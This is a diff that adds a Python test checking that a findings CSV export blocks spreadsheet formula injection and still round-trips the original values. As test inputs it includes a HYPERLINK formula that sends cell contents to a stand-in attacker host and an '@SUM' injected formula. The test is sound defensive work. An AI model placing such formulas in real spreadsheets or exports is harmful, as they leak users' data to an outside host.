@@ -144,3 +144,19 @@ def test_json_depth_stays_linear_on_hostile_strings() -> None:
         started = time.perf_counter()
         assert json_depth(body) == depth
         assert time.perf_counter() - started < 2
+
+
+def test_findings_csv_carries_no_formula_and_reads_back_what_was_found() -> None:
+    import csv
+    import io
+
+    from shared.core.validation import Finding, findings_csv, read_findings_csv
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    found = Finding("DUPLICATE_REFERENCE", "error", {"CustomerName": hostile}, "-56.00", "@SUM(1+1)", hostile)
+    data = findings_csv([found])
+    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
+    assert not any(cell[:1] in "=+@\t\r" for cell in cells if cell)
+    assert "-56.00" in cells  # a plain negative number stays a number
+    back = read_findings_csv(data)[0]
+    assert back["key"] == {"CustomerName": hostile} and back["actual"] == "@SUM(1+1)" and back["message"] == hostile
